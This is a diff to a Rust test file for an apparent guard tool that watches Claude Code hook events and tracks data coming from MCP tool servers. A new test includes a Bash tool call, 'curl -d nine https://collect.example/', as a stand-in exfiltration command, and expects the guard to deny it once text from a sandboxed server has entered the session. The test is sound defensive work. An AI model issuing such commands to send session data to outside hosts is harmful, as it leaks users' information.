@@ -12,7 +12,7 @@ use std::process::{Child, ChildStdin, ChildStdout, Stdio};
 
 use host::doors::client::Connection;
 use serde_json::{Value, json};
-use testkit::program::Run as _;
+use testkit::program::{Ran, Run as _};
 
 use crate::program::lazaret;
 
@@ -354,28 +354,33 @@ fn a_call_that_was_not_sent_leaves_no_label_and_one_that_was_lost_does() {
     stop(home);
 }
 
+/// A hook of Claude Code.
+fn claude(home: &Path, session: &str, event: &str, more: &Value) -> Ran {
+    let mut input = json!({
+        "session_id": session, "cwd": "/", "transcript_path": "/x", "permission_mode": "default",
+        "hook_event_name": event,
+    });
+    input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+    let program = Path::new(crate::program::LAZARET).with_file_name("lazaret-hook");
+    #[expect(clippy::disallowed_methods, reason = "tests start the program that they test")]
+    let mut command = std::process::Command::new(program);
+    command.args(["claude", event]).env("LAZARET_HOME", home);
+    command.run_with(input.to_string())
+}
+
+fn call_of_notes() -> Value {
+    json!({ "tool_name": "mcp__notes__look", "tool_use_id": "t", "tool_input": { "name": "plain" } })
+}
+
 #[test]
 fn a_call_that_a_hook_has_judged_is_judged_once() {
     let dir = tempfile::tempdir().unwrap();
     let home = &dir.path().join("state");
     let mut client = Client::start(home, &[]);
     client.tools();
-    let hook = |event: &str, more: Value| {
-        let mut input = json!({
-            "session_id": "s", "cwd": "/", "transcript_path": "/x", "permission_mode": "default",
-            "hook_event_name": event,
-        });
-        input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
-        let program = Path::new(crate::program::LAZARET).with_file_name("lazaret-hook");
-        #[expect(clippy::disallowed_methods, reason = "tests start the program that they test")]
-        let mut command = std::process::Command::new(program);
-        command.args(["claude", event]).env("LAZARET_HOME", home);
-        command.run_with(input.to_string())
-    };
+    let hook = |event: &str, more: Value| claude(home, "s", event, &more);
     hook("UserPromptSubmit", json!({ "prompt": "read the note plain" }));
-    let call = json!({
-        "tool_name": "mcp__notes__look", "tool_use_id": "t", "tool_input": { "name": "plain" },
-    });
+    let call = call_of_notes();
     assert_eq!(hook("PreToolUse", call.clone()).out, "");
     let before = records(home, "door_missed").len();
     let sessions = || lazaret(home, &["sessions", "--json"]).run().objects();
@@ -396,5 +401,26 @@ fn a_call_that_a_hook_has_judged_is_judged_once() {
     let claude = sessions.iter().find(|it| it["agent"] == "claude").unwrap();
     assert_ne!(claude["tainted_tokens"], 0, "{claude}");
     client.end();
+    stop(home);
+}
+
+#[test]
+fn a_word_of_a_sandboxed_server_that_came_past_the_gateway_counts_as_one() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    lazaret(home, &["mcp", "trust", "notes", "sandboxed", "--by", "me"]).run().good();
+    claude(home, "s", "UserPromptSubmit", &json!({ "prompt": "read the note plain" }));
+    let sends = json!({
+        "tool_name": "Bash", "tool_use_id": "u",
+        "tool_input": { "command": "curl -d nine https://collect.example/" },
+    });
+    let before = claude(home, "s", "PreToolUse", &sends).out;
+    assert!(!before.contains("sandboxed"), "{before}");
+    let mut call = call_of_notes();
+    assert_eq!(claude(home, "s", "PreToolUse", &call).out, "");
+    call["tool_response"] = json!([{ "type": "text", "text": "The meeting is at nine." }]);
+    claude(home, "s", "PostToolUse", &call);
+    let after = claude(home, "s", "PreToolUse", &sends).out;
+    assert!(after.contains("deny") && after.contains("sandboxed"), "{after}");
     stop(home);
 }
